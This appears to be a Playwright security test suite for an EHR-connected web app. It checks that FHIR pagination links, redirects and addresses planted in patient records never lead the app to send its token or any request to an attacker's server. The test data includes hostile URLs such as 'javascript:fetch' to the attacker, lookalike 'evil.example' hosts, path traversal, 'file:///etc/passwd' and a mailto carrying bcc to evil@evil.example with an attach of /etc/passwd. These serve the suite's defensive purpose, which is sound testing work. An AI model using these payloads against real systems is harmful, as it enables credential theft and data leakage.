import type { Page } from '@playwright/test'
import { expect, gotNothing, test, type Attacker } from '../fixtures/attacker/attacker'
import { unharmed, watchForHarm } from '../fixtures/attacker/harm'
import { aFailedRequest, searches } from '../fixtures/foreign-ehr/asked'
import { ends, openSection, type Clinic } from '../fixtures/foreign-ehr/clinic'
import { isSearch } from '../fixtures/foreign-ehr/habits'
import { ottoline, type Stored } from '../fixtures/foreign-ehr/records'
import { amended, type Habit, type Reply } from '../fixtures/foreign-ehr/reply'
import { exactly, wholeRecord } from '../fixtures/foreign-ehr/whole-record'
import { sessionReady } from '../e2e/support/chart'

// Addresses in what the EHR answers that lead to the attacker: the token never goes there, nor does anything else.

/** How an address may look as if it were the EHR's: of the FHIR base `http://localhost:PORT/clinic/fhir`. */
function leadingTo({ origin: attacker }: Attacker, { base, origin }: Pick<Clinic, 'base' | 'origin'>): string[] {
  const { host, hostname, port, pathname } = new URL(base)
  const { port: other, host: theirs } = new URL(attacker)
  return [
    `${attacker}${pathname}/Condition?page=2`,
    `http://${hostname}:${other}${pathname}/Condition?page=2`,
    `//${theirs}${pathname}/Condition?page=2`,
    `\\\\${theirs}${pathname}/Condition`,
    `http://${host}@${theirs}${pathname}/Condition`,
    `http://user:word@${host}${pathname}/Condition`,
    `http://${host}.evil.example${pathname}/Condition`,
    `https://${host}${pathname}/Condition?page=2`,
    `http://127.0.0.1:${port}${pathname}/Condition?page=2`,
    `${origin}/other/fhir/Condition?page=2`,
    `${base}/../other/Condition?page=2`,
    `${base}/%2e%2e/other/Condition?page=2`,
    `${base}x/Condition?page=2`,
    `javascript:fetch('${attacker}')`,
    `data:application/fhir+json,{}`,
    `file:///etc/passwd`,
    `blob:${attacker}/1`,
    `ftp://${theirs}/Condition`,
  ]
}

const withLinks = (reply: Reply, links: Record<string, string>): Reply =>
  amended(reply, (bundle) => ({
    ...bundle,
    link: Object.entries(links).map(([relation, url]) => ({ relation, url })),
  }))

/** Requests that the EHR got outside its FHIR base, with a token: none, whoever sent them. */
const strayed = ({ asked, reads }: Clinic) => {
  const under = new Set(reads().map(({ asked: one }) => one))
  return asked.filter((one) => !under.has(one) && one.headers['authorization'] !== undefined)
}

test('a next page that leads elsewhere is not asked for, and the list says that it is not whole', async ({
  page,
  openClinic,
  attacker,
}) => {
  test.setTimeout(120_000)
  let next = ''
  const fhir: Habit = (asked, ordinary) => {
    const reply = ordinary()
    return isSearch(asked, 'Condition') && reply.status === 200
      ? withLinks(reply, { self: `${attacker.origin}/self`, base: `${attacker.origin}/base`, next })
      : exactly(asked, () => reply)
  }
  const clinic = await openClinic({ records: wholeRecord('r4').records, fhir })
  for (const address of leadingTo(attacker, clinic)) {
    next = address
    const before = searches(clinic, 'Condition').length
    await page.goto(clinic.launchUrl())
    await ends(page, 'problems', 'card', 'incomplete')
    expect.soft(searches(clinic, 'Condition').length - before, address).toBe(1)
  }
  expect(strayed(clinic)).toEqual([])
  await gotNothing(attacker)
})

for (const status of [301, 302, 307, 308]) {
  test(`${status} to the attacker, from a search, a read or a file: nothing goes there, and the reader is told`, async ({
    page,
    openClinic,
    attacker,
    faults,
  }) => {
    faults.expect(aFailedRequest, /CORS|redirect/i)
    const away: Habit = (asked, ordinary) =>
      isSearch(asked, 'Procedure') || /\/(?:Medication|Binary)\//.test(asked.target)
        ? { status, headers: { location: `${attacker.origin}/clinic/fhir/Procedure` }, body: '' }
        : exactly(asked, ordinary)
    const clinic = await openClinic({ records: wholeRecord('r4').records, fhir: away })
    await page.goto(clinic.launchUrl())
    await sessionReady(page)
    const documents = await openSection(page, 'documents', 'complete')
    await documents.getByRole('button', { name: 'Show The letter' }).click()
    await expect(documents.getByRole('alert')).toBeVisible()
    const procedures = page.locator('section[data-section="procedures"][data-view="full"]')
    await page.getByRole('navigation', { name: 'Sections' }).locator('a[href$="chart/procedures"]').click()
    await expect(procedures).toHaveAttribute('data-state', 'failed', { timeout: 30_000 })
    await gotNothing(attacker)
  })
}

const about = (resourceType: string, id: string, more: Record<string, unknown>): Stored => ({
  resourceType,
  id,
  status: 'current',
  subject: { reference: `Patient/${ottoline}` },
  ...more,
})

/** Records that name an address in every place for one. */
function naming(address: string, id: string): Stored[] {
  const reference = { reference: address }
  return [
    about('DocumentReference', `file-${id}`, {
      type: { text: 'A file' },
      author: [reference],
      custodian: reference,
      content: [{ attachment: { contentType: 'text/html', title: 'A file', url: address } }],
    }),
    about('MedicationRequest', `order-${id}`, {
      status: 'active',
      intent: 'order',
      medicationReference: reference,
      requester: reference,
      instantiatesUri: [address],
      instantiatesCanonical: [address],
      supportingInformation: [reference],
    }),
    about('Observation', `result-${id}`, {
      status: 'final',
      code: { coding: [{ system: address, code: address, display: 'Odd result' }] },
      identifier: [{ system: address, value: address }],
      category: [
        { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/observation-category', code: 'laboratory' }] },
      ],
      valueString: address,
      performer: [reference],
      derivedFrom: [reference],
      meta: { profile: [address], source: address },
      implicitRules: address,
    }),
  ]
}

async function openEverything(page: Page, section: string): Promise<void> {
  await page.getByRole('navigation', { name: 'Sections' }).locator(`a[href$="chart/${section}"]`).click()
  const opened = page.locator(`section[data-section="${section}"][data-view="full"]`)
  await expect(opened).toHaveAttribute('data-state', /^(?:complete|incomplete)$/, { timeout: 30_000 })
  await opened.locator('details').evaluateAll((all) => all.forEach((one) => one.setAttribute('open', '')))
  await opened.locator('button[aria-label^="Show "]').evaluateAll((all) => {
    for (const one of all) if (one instanceof HTMLElement) one.click()
  })
}

test('an address of the attacker’s in any place of a record is asked for nothing, and is no link that runs', async ({
  page,
  openClinic,
  attacker,
  faults,
}) => {
  test.setTimeout(120_000)
  faults.expect(aFailedRequest)
  const harm = await watchForHarm(page)
  const records = wholeRecord('r4').records
  const odd = leadingTo(attacker, { base: 'http://localhost:9/clinic/fhir', origin: 'http://localhost:9' })
  const contacts = [
    'javascript:pwned=1',
    'tel:1;ext=javascript:1',
    'mailto:a@b?bcc=evil@evil.example&attach=/etc/passwd',
    attacker.origin,
  ]
  const patient = records.find(({ resourceType }) => resourceType === 'Patient')
  Object.assign(patient ?? {}, {
    photo: [{ url: `${attacker.origin}/photo.png`, contentType: 'image/png' }],
    managingOrganization: { reference: `${attacker.origin}/Organization/1` },
    telecom: contacts.flatMap((value) => ['phone', 'email', 'url'].map((system) => ({ system, value }))),
  })
  records.push(...odd.flatMap((address, index) => naming(address, String(index))))
  const clinic = await openClinic({ records, fhir: exactly, pageSize: 200 })
  await page.goto(clinic.launchUrl())
  await sessionReady(page)
  for (const section of ['documents', 'medications', 'labs', 'patient']) {
    await openEverything(page, section)
    await unharmed(page, harm, section)
  }
  const links = await page
    .locator('a[href^="mailto:"], a[href^="tel:"]')
    .evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''))
  expect(links.filter((href) => /[?&]|javascript/.test(href))).toEqual([])
  expect(strayed(clinic)).toEqual([])
  await gotNothing(attacker)
})
